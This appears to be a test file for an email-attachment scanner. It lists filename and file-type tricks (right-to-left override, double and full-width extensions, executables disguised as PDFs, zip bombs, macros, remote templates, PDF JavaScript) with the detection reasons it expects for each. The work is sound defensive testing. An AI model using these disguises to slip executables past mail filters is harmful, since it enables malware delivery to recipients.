+	const char *label;
+	GByteArray *(*build)(void);
+	const char *name, *name2, *declared;
+	const char *want;      /* reasons, any order, "" for none */
+	const char *finding;   /* a substring one finding must hold, or NULL */
+	int limits;            /* 0: defaults; 1: archive_entries 10; 2: archive_expanded 1 MiB; 3: archive_depth 1 */
+} fcase;
+
+static const fcase cases[] = {
+	/* false positives: ordinary mail must not be flagged */
+	{ "clean pdf", s_pdf_clean, "見積書.pdf", NULL, "application/pdf", "", NULL, 0 },
+	{ "pdf opening at a page", s_pdf_open_dest, "a.pdf", NULL, NULL, "", NULL, 0 },
+	{ "pdf opening via a GoTo object", s_pdf_open_goto_ref, "a.pdf", NULL, NULL, "", NULL, 0 },
+	{ "docx", s_docx, "議事録.docx", NULL, "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "", NULL, 0 },
+	{ "xlsx", s_xlsx, "集計.xlsx", NULL, NULL, "", NULL, 0 },
+	{ "png", s_png, "写真.png", NULL, "image/png", "", NULL, 0 },
+	{ "jpeg", s_jpeg, "photo.JPG", NULL, "image/jpeg", "", NULL, 0 },
+	{ "zip of pdfs", s_zip_pdfs, "資料.zip", NULL, "application/zip", "", NULL, 0 },
+	{ "text", s_text, "memo.txt", NULL, "text/plain", "", NULL, 0 },
+	{ "prose about begin 644", s_prose, "readme.txt", NULL, NULL, "", NULL, 0 },
+	{ "csv declared as excel", s_csv, "一覧.csv", NULL, "application/vnd.ms-excel", "", NULL, 0 },
+	{ "doc", s_doc_clean, "文書.doc", NULL, "application/msword", "", NULL, 0 },
+	{ "xls", s_xls_clean, "表.xls", NULL, NULL, "", NULL, 0 },
+	{ "rtf", s_rtf_clean, "a.rtf", NULL, NULL, "", NULL, 0 },
+	{ "rtf with a local template", s_rtf_local_template, "a.rtf", NULL, NULL, "", NULL, 0 },
+	{ "msg with a pdf", s_msg_pdf, "転送.msg", NULL, NULL, "", NULL, 0 },
+	{ "tar.gz of documents", s_targz_clean, "docs.tar.gz", NULL, "application/gzip", "", NULL, 0 },
+	{ "no name", s_pdf_clean, NULL, NULL, NULL, "", NULL, 0 },
+
+	/* names */
+	{ "rlo name", s_png, "report\xe2\x80\xae" "gpj.exe", NULL, NULL, "executable-name,filename-control-chars", NULL, 0 },
+	{ "pdf.exe", s_pe, "invoice.pdf.exe", NULL, NULL, "double-extension,executable,executable-name", NULL, 0 },
+	{ "spaces before .exe", s_pe, "a.pdf        .exe", NULL, NULL, "double-extension,executable,executable-name", NULL, 0 },
+	{ "full-width .exe", s_text, "請求書．ｅｘｅ", NULL, NULL, "executable-name", NULL, 0 },
+	{ "trailing dots", s_text, "run.bat. . .", NULL, NULL, "executable-name", NULL, 0 },
+	{ "name2 only", s_text, "memo.txt", "memo.hta", NULL, "executable-name", NULL, 0 },
+	{ "iso name", s_text, "disk.ISO", NULL, NULL, "disk-image", NULL, 0 },
+	{ "onenote name", s_text, "note.one", NULL, NULL, "onenote", NULL, 0 },
+	{ "html name", s_html, "請求書.html", NULL, "text/html", "html-attachment", NULL, 0 },
+	{ "svg name", s_text, "a.svg", NULL, NULL, "html-attachment", NULL, 0 },
+	{ "pdf.html", s_html, "invoice.pdf.html", NULL, NULL, "double-extension,html-attachment", NULL, 0 },
+
+	/* types */
+	{ "pe as pdf", s_pe, "report.pdf", NULL, "application/pdf", "executable,type-mismatch", NULL, 0 },
+	{ "pe as txt", s_pe, "memo.txt", NULL, NULL, "executable,type-mismatch", NULL, 0 },
+	{ "zip as pdf", s_zip_pdfs, "report.pdf", NULL, NULL, "type-mismatch", NULL, 0 },
+	{ "pe declared pdf", s_pe, "file.bin", NULL, "application/pdf", "executable,type-mismatch", NULL, 0 },
+	{ "lnk", s_lnk, "a.dat", NULL, NULL, "executable", NULL, 0 },
+	{ "elf", s_elf, "a", NULL, NULL, "executable", NULL, 0 },
+	{ "shell script", s_shell, "a.dat", NULL, NULL, "script", NULL, 0 },
+	{ "onenote bytes", s_onenote, "a.dat", NULL, NULL, "onenote", NULL, 0 },
+	{ "html without extension", s_html, "page", NULL, NULL, "html-attachment", NULL, 0 },
+
+	/* archives */
+	{ "zip with exe", s_zip_exe, "資料.zip", NULL, NULL, "archive-executable", "資料/setup.exe: executable-name, executable", 0 },
+	{ "zip with pdf.exe", s_zip_double, "a.zip", NULL, NULL, "archive-executable,double-extension", "invoice.pdf.exe: executable-name, double-extension", 0 },
+	{ "zip with full-width js", s_zip_fullwidth, "a.zip", NULL, NULL, "archive-executable", NULL, 0 },
+	{ "zip with rlo name", s_zip_rlo, "a.zip", NULL, NULL, "archive-executable,filename-control-chars", "<U+202E>", 0 },
+	{ "zip with exe named pdf", s_zip_exe_as_pdf, "a.zip", NULL, NULL, "archive-executable,type-mismatch", NULL, 0 },
+	{ "zip with iso name", s_zip_iso_name, "a.zip", NULL, NULL, "disk-image", NULL, 0 },
+	{ "zip with js pdf", s_zip_pdf_js, "a.zip", NULL, NULL, "pdf-active", "a.pdf: pdf-active (/JavaScript /JS /OpenAction)", 0 },
+	{ "zip with docm", s_zip_docm, "a.zip", NULL, NULL, "archive-macro", "会議資料.docm", 0 },
+	{ "zip with vba doc", s_zip_doc_vba, "a.zip", NULL, NULL, "archive-macro", NULL, 0 },
+	{ "zipcrypto", s_zipcrypt, "見積書.zip", NULL, NULL, "encrypted", "見積書.pdf: encrypted", 0 },
+	{ "zipcrypto with exe", s_zipcrypt_exe, "見積書.zip", NULL, NULL, "archive-executable,encrypted", NULL, 0 },
+	{ "aes zip", s_zipaes, "見積書.zip", NULL, NULL, "encrypted", NULL, 0 },
+	{ "zip bomb", s_zip_bomb, "a.zip", NULL, NULL, "archive-bomb", "archive-bomb (expands more than 100 times)", 0 },
+	{ "zip nested 2 with exe", s_zip_nest2, "a.zip", NULL, NULL, "archive-executable", "inner.zip > 資料/setup.exe: executable-name, executable", 0 },
+	{ "zip nested 3 with exe", s_zip_nest3, "a.zip", NULL, NULL, "archive-executable", NULL, 0 },
+	{ "zip nested 4", s_zip_nest4, "a.zip", NULL, NULL, "archive-bomb", "archives nested deeper than 3", 0 },
+	{ "zip over the expanded limit", s_zip_random, "a.zip", NULL, NULL, "archive-bomb", "an entry of 2097152 bytes", 2 },
+	{ "zip under the expanded limit", s_zip_random, "a.zip", NULL, NULL, "", NULL, 0 },
+	{ "small zip of zeros", s_zip_small_zeros, "a.zip", NULL, NULL, "", NULL, 0 },
+	{ "zip in zip at depth 1", s_zip_nest2, "a.zip", NULL, NULL, "archive-bomb", "archives nested deeper than 1", 3 },
+	{ "docx at depth 1", s_docx, "a.docx", NULL, NULL, "", NULL, 3 },
+	{ "zip with many entries", s_zip_many, "a.zip", NULL, NULL, "archive-bomb", "more than 10 entries", 1 },
+	{ "truncated zip", s_zip_truncated, "a.zip", NULL, NULL, "archive-unreadable", NULL, 0 },
+	{ "tar.gz with exe", s_targz_exe, "a.tar.gz", NULL, NULL, "archive-executable", "a/b/tool.exe", 0 },
+	{ "7z with js", s_7z_js, "a.7z", NULL, NULL, "archive-executable", NULL, 0 },
+	{ "iso image with exe, named .dat", s_iso_exe, "photos.dat", NULL, NULL, "archive-executable,disk-image", "SETUP.EXE", 0 },
+	{ "gzip of a pe", s_gz_pe, "a.gz", NULL, NULL, "archive-executable", NULL, 0 },
+
+	/* office */
+	{ "docm", s_docm, "議事録.docm", NULL, NULL, "macro", "macro (application/vnd.ms-office.vbaProject)", 0 },
+	{ "docm named docx", s_docm, "議事録.docx", NULL, NULL, "macro", NULL, 0 },
+	{ "xlsx with macro sheet", s_xlsm_sheet, "a.xlsm", NULL, NULL, "macro", NULL, 0 },
+	{ "odt with basic", s_odt_basic, "a.odt", NULL, NULL, "macro", NULL, 0 },
+	{ "docx remote template", s_docx_remote, "a.docx", NULL, NULL, "external-reference", "attachedTemplate http://198.51.100.7/t.dotm", 0 },
+	{ "docx with ole object", s_docx_ole, "a.docx", NULL, NULL, "embedded-object", NULL, 0 },
+	{ "docx with broken rels", s_docx_badxml, "a.docx", NULL, NULL, "document-unreadable", NULL, 0 },
+	{ "doc with vba", s_doc_vba, "a.doc", NULL, NULL, "macro", "macro (Macros)", 0 },
+	{ "doc encrypted", s_doc_encrypted, "a.doc", NULL, NULL, "encrypted", NULL, 0 },
+	{ "doc with package", s_doc_package, "a.doc", NULL, NULL, "embedded-object", NULL, 0 },
+	{ "xls with xlm", s_xls_xlm, "a.xls", NULL, NULL, "macro", "Excel 4.0 macro sheet", 0 },
+	{ "xls with vba", s_xls_vba, "a.xls", NULL, NULL, "macro", NULL, 0 },
+	{ "xls encrypted", s_xls_filepass, "a.xls", NULL, NULL, "encrypted", NULL, 0 },
+	{ "encrypted docx", s_docx_encrypted, "秘密.docx", NULL, NULL, "encrypted", NULL, 0 },
+	{ "msg with exe", s_msg_exe, "fw.msg", NULL, NULL, "archive-executable", "請求書.exe: executable-name, executable", 0 },
+	{ "rtf object", s_rtf_object, "a.doc", NULL, NULL, "embedded-object", "\\object", 0 },
+	{ "rtf remote template", s_rtf_template, "a.rtf", NULL, NULL, "external-reference", NULL, 0 },
+
+	/* pdf */
+	{ "pdf javascript", s_pdf_js, "a.pdf", NULL, NULL, "pdf-active", "pdf-active (/JavaScript /JS /OpenAction)", 0 },
+	{ "pdf hex-escaped name", s_pdf_hex, "a.pdf", NULL, NULL, "pdf-active", "pdf-active (/JavaScript)", 0 },
+	{ "pdf launch", s_pdf_launch, "a.pdf", NULL, NULL, "pdf-active", "/OpenAction /Launch", 0 },
+	{ "pdf embedded file", s_pdf_embedded, "a.pdf", NULL, NULL, "pdf-active", "/EmbeddedFile", 0 },
+	{ "pdf encrypted", s_pdf_encrypted, "a.pdf", NULL, NULL, "encrypted", NULL, 0 },
+	{ "pdf object stream", s_pdf_objstm, "a.pdf", NULL, NULL, "pdf-active", "pdf-active (/JavaScript /JS /OpenAction)", 0 },
+	{ "pdf fake stream in a string", s_pdf_fake_stream, "a.pdf", NULL, NULL, "pdf-active", NULL, 0 },
+};
+
+static int memfile(const GByteArray *b)
+{
+	int fd = memfd_create("sample", MFD_CLOEXEC);
+	if (fd < 0 || write(fd, b->data, b->len) != (ssize_t)b->len)
+		abort();
+	return fd;
+}
+
+/* With INSPECT_SEED_DIR set, each sample is also written there as a seed
+ * for test/fuzz/fuzz-inspect.c: one byte choosing the name, then the file. */
+static void write_seed(const fcase *t, const GByteArray *b)
+{
+	const char *dir = getenv("INSPECT_SEED_DIR");
+	if (!dir || b->len > (1u << 20))
+		return;
+	static const char *const ext[] = { ".zip", ".docm", ".pdf", ".doc", ".rtf" };
+	unsigned char sel = 5;
+	for (unsigned char i = 0; i < 5; i++)
+		if (t->name && g_str_has_suffix(t->name, ext[i]))
+			sel = i;
+	char *path = g_strdup_printf("%s/seed-%03u", dir, (unsigned)(t - cases));
+	GByteArray *seed = g_byte_array_new();
+	g_byte_array_append(seed, &sel, 1);
+	g_byte_array_append(seed, b->data, b->len);
+	g_file_set_contents(path, (const char *)seed->data, seed->len, NULL);
+	g_byte_array_unref(seed);
+	g_free(path);
+}
+
+static void run_case(const fcase *t)
+{
+	GByteArray *b = t->build();
+	write_seed(t, b);
+	int fd = memfile(b);
+	inspect_limits lim = { 0 };
+	inspect_limits_default(&lim);
+	if (t->limits == 1)
+		lim.archive_entries = 10;
+	else if (t->limits == 2)
+		lim.archive_expanded = 1 << 20;
+	else if (t->limits == 3)
+		lim.archive_depth = 1;
+	GPtrArray *reasons = g_ptr_array_new_with_free_func(g_free);
+	GPtrArray *findings = g_ptr_array_new_with_free_func(g_free);
+	int rc = inspect_file(t->name, t->name2, t->declared, NULL, fd, b->len, &lim, reasons, findings);
+	TAP_OK(rc == 0, "%s: returns 0", t->label);
+	char *got = set_of(reasons), *want = want_set(t->want);
+	TAP_STREQ(got, want, "%s: reasons", t->label);
+	if (getenv("VERBOSE"))
+		for (guint i = 0; i < findings->len; i++)
+			printf("#   %s finding: %s\n", t->label, (char *)g_ptr_array_index(findings, i));
+	if (t->finding) {
+		bool hit = false;
+		for (guint i = 0; i < findings->len && !hit; i++)
+			hit = strstr(g_ptr_array_index(findings, i), t->finding) != NULL;
+		TAP_OK(hit, "%s: finding \"%s\"", t->label, t->finding);
+		if (!hit)
+			for (guint i = 0; i < findings->len; i++)
+				printf("#   finding: %s\n", (char *)g_ptr_array_index(findings, i));
+	}
+	g_free(got);
+	g_free(want);
+	g_ptr_array_unref(reasons);
+	g_ptr_array_unref(findings);
+	close(fd);
+	g_byte_array_unref(b);
+}
+
+/* ---------- inspect_name alone ---------- */
+
+static const struct {
+	const char *name, *want;
+} name_cases[] = {
+	{ "report.pdf", "" },
+	{ "議事録.docx", "" },
+	{ "EVIL.EXE", "executable-name" },
+	{ "a.Scr", "executable-name" },
+	{ "setup.msi", "executable-name" },
+	{ "shortcut.lnk", "executable-name" },
+	{ "x.ps1", "executable-name" },
+	{ "x.vbe", "executable-name" },
+	{ "x.wsf", "executable-name" },
+	{ "x.jar", "executable-name" },
+	{ "x.appx", "executable-name" },
+	{ "link.url", "executable-name" },
+	{ "file.{3050f4d8-98B5-11CF-BB82-00AA00BDCE0B}", "executable-name" },
+	{ "evil.exe::$DATA", "executable-name" },
+	{ "C:\\Users\\x\\evil.cmd", "executable-name" },
+	{ "請求書．ｐｄｆ．ｅｘｅ", "double-extension,executable-name" },
+	{ "a.pdf\xe3\x80\x80.exe", "double-extension,executable-name" },      /* U+3000 ideographic space */
+	{ "a\xe2\x80\x8b.exe", "executable-name,filename-control-chars" },    /* zero-width space */
+	{ "photo.jpg.scr", "double-extension,executable-name" },
+	{ "x.vhdx", "disk-image" },
+	{ "x.img", "disk-image" },
+	{ "x.onepkg", "onenote" },
+	{ "x.mht", "html-attachment" },
+	{ "x.xhtml", "html-attachment" },
+	{ "tab\there.txt", "filename-control-chars" },
+	{ "archive.tar.gz", "" },
+	{ "v1.2.pdf", "" },
+	{ ".exe", "executable-name" },
+	{ "", "" },
+};
+
+/* ---------- textenc ---------- */
+
+typedef struct piece {
+	const char *text;
+	const char *kind;   /* NULL: not a block */
+	const char *name;
+} piece;
+
+static const struct {
+	const char *label;
+	piece p[6];
+} text_cases[] = {
+	{ "uuencode", { { "hello\n\n", NULL, NULL }, { "begin 644 a.txt\n#86)C\n`\nend\n", "uuencode", "a.txt" }, { "bye\n", NULL, NULL } } },
+	{ "uuencode crlf, mode 4 digits, no final newline",
+	  { { "x\r\n", NULL, NULL }, { "begin 0644 請求書.exe\r\n#86)C\r\n`\r\nend", "uuencode", "請求書.exe" } } },
+	{ "uuencode without end", { { "begin 644 a.txt\n#86)C\n`\nbye\n", NULL, NULL } } },
+	{ "uuencode without data", { { "begin 644 a.txt\nend\n", NULL, NULL } } },
+	{ "prose", { { "The mode is set with\nbegin 644 is a mode\nand then\nend\n", NULL, NULL } } },
+	{ "yenc", { { "see below\n", NULL, NULL }, { "=ybegin line=128 size=3 name=x y.bin\n\x8b\x8c\x8d\n=yend size=3 crc32=00000000\n", "yenc", "x y.bin" }, { "thanks\n", NULL, NULL } } },
+	{ "yenc without yend", { { "=ybegin line=128 size=3 name=x.bin\n\x8b\x8c\x8d\n", NULL, NULL } } },
+	{ "yenc without name", { { "=ybegin line=128 size=3\nabc\n=yend size=3\n", NULL, NULL } } },
+	/* the header of a file named "a.exe": 05 'a' '.' 'e' 'x' 'e' 00, in BinHex's 6-bit alphabet */
+	{ "binhex", { { "hi\n", NULL, NULL }, { "(This file must be converted with BinHex 4.0)\n\n:\"@%ZCAKP!!!!!!!!!\n!!!!!!!!!!:\n", "binhex", "a.exe" } } },
+	{ "binhex unterminated", { { "(This file must be converted with BinHex 4.0)\n:\"@%ZCAKP!!!!\n", NULL, NULL } } },
+	{ "binhex marker only", { { "(This file must be converted with BinHex 4.0)\nplease decode\n", NULL, NULL } } },
+	{ "two blocks", { { "begin 644 a\n!80``\n`\nend\n", "uuencode", "a" }, { "mid\n", NULL, NULL }, { "begin 600 b\n!80``\n end\nend\n", NULL, NULL } } },
+};
+
+static void run_text_case(unsigned idx)
+{
+	GString *text = g_string_new(NULL);
+	struct want { size_t start, end; const char *kind, *name; } want[6];
+	unsigned nwant = 0;
+	for (unsigned i = 0; i < 6 && text_cases[idx].p[i].text; i++) {
+		const piece *p = &text_cases[idx].p[i];
+		if (p->kind)
+			want[nwant++] = (struct want){ text->len, text->len + strlen(p->text), p->kind, p->name };
+		g_string_append(text, p->text);
+	}
+	const char *label = text_cases[idx].label;
+	const char *dir = getenv("TEXTENC_SEED_DIR");  /* seeds for test/fuzz/fuzz-textenc.c */
+	if (dir) {
+		char *path = g_strdup_printf("%s/seed-%02u", dir, idx);
+		g_file_set_contents(path, text->str, (gssize)text->len, NULL);
+		g_free(path);
+	}
+	GArray *got = textenc_scan(text->str, text->len);
+	TAP_OK(got->len == nwant, "textenc %s: %u blocks (got %u)", label, nwant, got->len);
+	for (unsigned i = 0; i < nwant && i < got->len; i++) {
+		textenc_block *b = &g_array_index(got, textenc_block, i);
+		TAP_OK(b->start == want[i].start && b->end == want[i].end, "textenc %s: block %u at [%zu, %zu) (got [%zu, %zu))",
+		       label, i, want[i].start, want[i].end, b->start, b->end);
+		TAP_STREQ(b->kind, want[i].kind, "textenc %s: block %u kind", label, i);
+		TAP_STREQ(b->name, want[i].name, "textenc %s: block %u name", label, i);
+	}
+	textenc_free(got);
+	g_string_free(text, TRUE);
+}
+
+int main(int argc, char **argv)
+{
+	/* one case by label substring: test-inspect "zip bomb" */
+	const char *only = argc > 1 ? argv[1] : NULL;
+	for (size_t i = 0; i < G_N_ELEMENTS(cases); i++)
+		if (!only || strstr(cases[i].label, only))
+			run_case(&cases[i]);
+	for (size_t i = 0; i < G_N_ELEMENTS(name_cases) && !only; i++) {
+		GPtrArray *r = g_ptr_array_new_with_free_func(g_free);
+		inspect_name(name_cases[i].name, r);
+		char *got = set_of(r), *want = want_set(name_cases[i].want);
+		TAP_STREQ(got, want, "name \"%s\"", name_cases[i].name);
+		g_free(got);
+		g_free(want);
+		g_ptr_array_unref(r);
+	}
+	for (unsigned i = 0; i < G_N_ELEMENTS(text_cases) && !only; i++)
+		run_text_case(i);
+	return tap_done();
+}
